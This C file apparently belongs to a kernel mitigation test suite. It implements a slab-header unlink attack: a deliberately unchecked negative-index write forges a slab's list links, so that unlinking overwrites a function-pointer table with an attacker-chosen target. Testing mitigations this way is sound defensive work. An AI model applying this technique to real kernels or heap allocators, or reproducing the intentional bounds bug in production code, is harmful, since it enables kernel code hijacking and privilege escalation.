/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * The heap's own pointers: a write before the start of an object reaches the header of its slab, whose links are
 * overwritten. When the slab fills up it is taken off its list, and that writes one of the links where the other says:
 * over the pointer to a table of operations.
 */
#include "attacks.h"

#include <kernel/heap.h>

#define SIZE 496 /* eight blocks a page, behind a header of 64 bytes */
#define FIRST_BLOCK 64
#define BLOCKS 8

/* The start of kernel/mm/heap_slab.c's struct slab. */
struct slab_links {
	uint64_t next, prev;
};

struct operations {
	uint64_t unused; /* what unlinking writes here does no harm */
	long (*run)(void *arg, size_t len);
};

static long length(void *arg, size_t len)
{
	return (long)len;
}

static const struct operations default_operations = { 0, length };
/* In the place of a slab, as unlinking sees it: its prev is what is overwritten. */
static struct {
	uint64_t unused;
	const struct operations *operations;
} driver = { 0, &default_operations };

/* The mistake: nobody checks index, which is negative. */
static NOINLINE void set_slot(uint64_t *slots, long index, uint64_t value)
{
	attack_opaque(slots)[index] = value;
}

static NOINLINE long drive(void *arg, size_t len)
{
	return (*attack_opaque(&driver.operations))->run(arg, len);
}

static bool benign(const struct attack *attack)
{
	uint64_t *slots = heap_zalloc(SIZE);
	bool right;

	if (!slots)
		return false;
	set_slot(slots, 3, 9);
	right = slots[3] == 9 && drive(slots, 5) == 5;
	heap_free(slots);
	return right;
}

static void run(const struct attack *attack)
{
	uintptr_t slide = attack_leaked_slide(), forged;
	struct operations operations = { 0 };
	uintptr_t goal = attack_linked_code(attack_goal) + slide;
	uint64_t *slots;

	memcpy(&operations.run, &goal, sizeof(goal));
	forged = attack_leaked_heap(&operations, sizeof(operations));
	/* Slabs that are full, and then one of which this is the first block, and which is the only one with room. */
	do {
		slots = heap_zalloc(SIZE);
		if (!slots)
			attack_failed(attack, "no memory");
	} while ((uintptr_t)slots % PAGE_SIZE != FIRST_BLOCK);
	attack_primitive(attack);
	set_slot(slots, -(FIRST_BLOCK / 8), attack_linked(&driver) + slide);
	set_slot(slots, -(FIRST_BLOCK / 8) + 1, forged);
	for (int i = 1; i < BLOCKS && heap_alloc(SIZE); i++)
		drive(slots, 1);
}

ATTACK(heap_unlink, .family = "heap metadata", .primitive = RELATIVE_WRITE, .knowledge = LAYOUT_LEAKED,
       .stopped_by = "heap kcfi", .about = "forged links of a slab, which unlinking writes through", .run = run,
       .benign = benign);
